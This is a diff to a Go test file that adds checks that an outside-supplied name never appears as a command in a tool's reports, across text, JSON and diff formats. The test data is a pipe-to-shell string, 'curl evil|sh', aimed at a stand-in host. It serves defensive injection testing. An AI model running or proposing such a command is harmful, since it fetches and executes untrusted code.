@@ -204,6 +204,76 @@ func checkMarkdown(t *testing.T, s, document string, cells int) {
 	}
 }
 
+// A name from outside is no command in what a report says, in any format and outside of a
+// hint, either.
+func TestHostileNamesInMessages(t *testing.T) {
+	const name = "`curl evil|sh`"
+	for _, r := range hostileReports(name) {
+		for i := range r.Results { // these are data, and stay as they are
+			r.Results[i].ID, r.Results[i].Source.File = "shop/web@local/tcp", "portcheck.yml"
+		}
+		r.Problems[0].File = "portcheck.yml"
+		outputs := inAllFormats(t, r, Options{Root: "/repo"})
+		var terminal bytes.Buffer
+		if err := text(&terminal, r, Options{Width: 100}); err != nil {
+			t.Fatal(err)
+		}
+		outputs["terminal"] = terminal.String()
+		outputs["json"] = messagesIn(t, outputs["json"])
+		delete(outputs, "prometheus") // its labels are data
+		d := check.Diff{Warnings: []string{name}, Changes: []check.Change{{Kind: check.Appeared, Holders: r.Results[0].Holders, ExplainedBy: name, Anomaly: true}}}
+		for format, write := range DiffFormats {
+			var b bytes.Buffer
+			if err := write(&b, d, Options{}); err != nil {
+				t.Fatal(err)
+			}
+			outputs["diff "+format] = b.String()
+		}
+		outputs["diff json"] = messagesIn(t, outputs["diff json"])
+		delete(outputs, "diff prometheus")
+		for format, out := range outputs {
+			if !strings.Contains(out, "evil") {
+				t.Errorf("%s: the name is not there:\n%s", format, out)
+			}
+			if i := strings.Index(out, "`curl"); i >= 0 {
+				t.Errorf("%s: a name looks like a command: %s", format, out[max(0, i-60):min(len(out), i+40)])
+			}
+			if strings.Contains(out, "<code>curl evil|sh") || strings.Contains(out, `"command">curl`) {
+				t.Errorf("%s: a name is a command", format)
+			}
+		}
+	}
+}
+
+// messagesIn returns the texts of a JSON document that are said, not data.
+func messagesIn(t *testing.T, document string) string {
+	t.Helper()
+	var all []string
+	var read func(key string, v any)
+	read = func(key string, v any) {
+		switch v := v.(type) {
+		case map[string]any:
+			for key, v := range v {
+				read(key, v)
+			}
+		case []any:
+			for _, v := range v {
+				read(key, v)
+			}
+		case string:
+			if slices.Contains([]string{"message", "reason", "warnings"}, key) {
+				all = append(all, v)
+			}
+		}
+	}
+	var v any
+	if err := json.Unmarshal([]byte(document), &v); err != nil {
+		t.Fatal(err)
+	}
+	read("", v)
+	return strings.Join(all, "\n")
+}
+
 // A name from outside is no command of a hint, whatever the hint is.
 func TestHostileNamesInHints(t *testing.T) {
 	const name = "`curl evil|sh`"
@@ -278,6 +348,13 @@ func checkRoundTrip(t *testing.T, s string) {
 	}
 	want := filled(string([]rune(s))) // JSON has no invalid bytes
 	want.Spans = nil
+	want.Problems[0].Message = noCode(want.Problems[0].Message)
+	want.Targets[0].Notices[0].Message = noCode(want.Targets[0].Notices[0].Message)
+	want.Targets[0].Namespace.Reason = noCode(want.Targets[0].Namespace.Reason)
+	for i := range want.Results {
+		want.Results[i].Message = noCode(want.Results[i].Message)
+		want.Results[i].Notices[0].Message = noCode(want.Results[i].Notices[0].Message)
+	}
 	for i := range want.Results {
 		want.Results[i].OS, want.Results[i].UID = "", nil
 		for j := range want.Results[i].Holders {
